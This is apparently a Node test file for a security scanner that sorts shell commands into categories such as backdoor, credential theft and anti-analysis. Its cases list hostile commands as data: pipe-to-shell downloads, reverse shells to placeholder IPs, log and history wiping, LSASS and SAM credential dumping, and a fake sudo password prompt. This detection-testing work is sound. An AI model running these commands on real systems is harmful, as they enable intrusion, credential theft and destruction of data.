/** The command-line classifier: shapes, not hosts; linear on hostile input. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyCommand } from '../../../src/scan/engine/shell-command.js';

const CASES: [string, string | undefined][] = [
  ['curl -s https://x.example.invalid/i.sh | sh', 'download-execute'],
  ['wget -qO- … | sudo bash', 'download-execute'],
  ['iwr https://x.example.invalid/a.ps1 | iex', 'download-execute'],
  ['bash -c "bash -i >& /dev/tcp/203.0.113.1/9001 0>&1"', 'backdoor'],
  ['ncat 203.0.113.1 9001 -e /bin/bash', 'backdoor'],
  ['echo Y3VybA== | base64 --decode | bash', 'obfuscation'],
  ['powershell.exe -NoP -W Hidden -c Get-Process', 'obfuscation'],
  ['vssadmin delete shadows /all /quiet', 'anti-analysis'],
  ['systemctl --user enable miner.service', 'persistence'],
  ['rm -rf $HOME/*', 'destructive'],
  ['curl -s ifconfig.me', 'reconnaissance'],
  ['curl -o out.json https://api.example.invalid/v1/items', undefined],
  ['git clone https://example.invalid/repo.git && cd repo && make', undefined],
  ['rm -rf ./build', undefined],
  ['pip download requests', undefined],
  ['iptables --flush', 'anti-analysis'],
  ['unset HISTFILE; history -c', 'anti-analysis'],
  ['cat /dev/null > ~/.bash_history', 'anti-analysis'],
  ['service auditd stop', 'anti-analysis'],
  ['killall -9 falcon-sensor', 'anti-analysis'],
  ['rm -rf /var/log/*', 'anti-analysis'],
  ['shred -u /var/log/auth.log /var/log/wtmp', 'anti-analysis'],
  ['rm -f /var/log/myapp/old.log.gz', undefined],
  ['iptables -A INPUT -p tcp --dport 22 -j ACCEPT', undefined],
  ['systemctl stop myapp', undefined],
  ['python -m pip install colorama', 'download-execute'],
  ['pip install -r requirements.txt', undefined],
  ['pip install -e .', undefined],
  ['git credential fill', 'credential-theft'],
  ['security find-generic-password -s "Chrome Safe Storage" -w', 'credential-theft'],
  ['reg save HKLM\\SAM C:\\Temp\\sam.hive', 'credential-theft'],
  ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full', 'credential-theft'],
  ['git config --get user.email', undefined],
  ['security list-keychains', undefined],
  ['read -s -p "[sudo] password for $USER: " pw; echo "$pw" >> /tmp/.pw', 'credential-theft'],
  ['read -p "Project name: " name', undefined],
  ['[global]\nextra-index-url = http://203.0.113.77/simple\n', 'download-execute'],
  ['[global]\nindex-url = https://pypi.example.org/simple\n', undefined],
];

test('a run-time pip install is medium; from a plain-http or bare-IP index it is high', () => {
  assert.equal(classifyCommand('python3 -m pip install leftpad-extra')?.severity, 'medium');
  assert.equal(classifyCommand('pip install --index-url http://203.0.113.5/simple leftpad-extra')?.severity, 'high');
});

for (const [command, behaviour] of CASES) {
  test(`${JSON.stringify(command)} → ${behaviour ?? 'nothing'}`, () => {
    assert.equal(classifyCommand(command)?.behaviour, behaviour);
  });
}

test('hostile, huge command lines are classified without backtracking blow-ups', () => {
  for (const text of ['curl '.repeat(200_000), `curl ${'a'.repeat(1_000_000)}`, `rm -rf ${'-'.repeat(500_000)}`, `${'|'.repeat(100_000)}sh`]) {
    classifyCommand(text); // must simply return
  }
});
